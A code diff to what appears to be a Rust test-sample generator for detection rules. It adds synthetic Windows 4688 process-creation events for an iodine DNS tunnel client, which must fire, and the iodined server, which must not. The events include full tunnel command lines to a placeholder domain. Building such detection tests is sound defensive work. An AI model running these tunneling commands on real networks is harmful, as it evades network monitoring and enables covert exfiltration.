@@ -1,9 +1,9 @@
 //! The Security sample: logons, 4688 process creations (plink and stunnel fire, plinkx does
-//! not), and the audit log being cleared.
+//! not), the audit log being cleared, and after it iodine (fires) and iodined (does not).
 
 use super::{
     Expect::{Fires, MustNotFire},
-    LogBuilder, SampleLog, RULE_SECURITY_CLEARED, RULE_TUNNELING, SECURITY_FILE,
+    LogBuilder, SampleLog, RULE_DNS_TUNNEL, RULE_SECURITY_CLEARED, RULE_TUNNELING, SECURITY_FILE,
 };
 use crate::evtxgen::windows::{
     security_log_cleared, security_logon, security_process_create, Account, Host, Logon, Proc,
@@ -229,5 +229,46 @@ pub(super) fn log() -> SampleLog {
             process: winlogon,
         },
     ));
+
+    // 12-13 (appended, so the ids above stay): the iodine DNS tunnel client, then a near miss
+    // whose name only starts like it (the iodine server, `iodined.exe`).
+    let t = b.after(40);
+    b.seed(
+        security_process_create(
+            &host,
+            t,
+            &admin,
+            &proc(
+                0x2a10,
+                "C:\\Temp\\iodine.exe",
+                "C:\\Temp\\iodine.exe -f -P s3cr3t t1.tunnel.example",
+            ),
+            &cmd,
+            ELEVATED,
+            HIGH,
+        ),
+        RULE_DNS_TUNNEL,
+        Fires,
+        "4688 C:\\Temp\\iodine.exe, NewProcessId 0x2a10",
+    );
+    let t = b.after(15);
+    b.seed(
+        security_process_create(
+            &host,
+            t,
+            &admin,
+            &proc(
+                0x2a24,
+                "C:\\Temp\\iodined.exe",
+                "C:\\Temp\\iodined.exe -f -P s3cr3t 10.53.0.1 t1.tunnel.example",
+            ),
+            &cmd,
+            ELEVATED,
+            HIGH,
+        ),
+        RULE_DNS_TUNNEL,
+        MustNotFire,
+        "4688 C:\\Temp\\iodined.exe (not iodine.exe)",
+    );
     b.finish()
 }
